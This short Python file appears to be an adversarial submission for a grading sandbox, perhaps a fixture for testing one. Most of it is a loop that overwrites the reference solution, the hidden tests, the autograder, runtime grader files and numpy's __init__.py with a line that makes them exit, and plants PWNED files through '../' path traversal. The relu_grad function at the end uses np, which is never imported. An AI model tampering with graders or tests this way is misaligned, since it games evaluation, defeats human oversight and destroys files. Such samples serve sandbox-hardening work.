"""Tries to overwrite the reference solution, the hidden tests and the grader, and to plant files."""
import os

targets = ["__PROJECT_ROOT__/solutions/backprop.py", "__PROJECT_ROOT__/tests/hidden/backprop/test_backprop_activation.py",
           "__PROJECT_ROOT__/autograder/results.py", "__PROJECT_ROOT__/PWNED", "../PWNED", "../../PWNED",
           "/opt/runtime/grader/child.py", "/opt/runtime/site/numpy/__init__.py"]
for path in targets:
    try:
        with open(path, "w") as f:
            f.write("raise SystemExit('pwned')\n")
        print("WROTE", path)
    except OSError:
        pass


def relu_grad(z):
    return (z > 0).astype(np.float64)
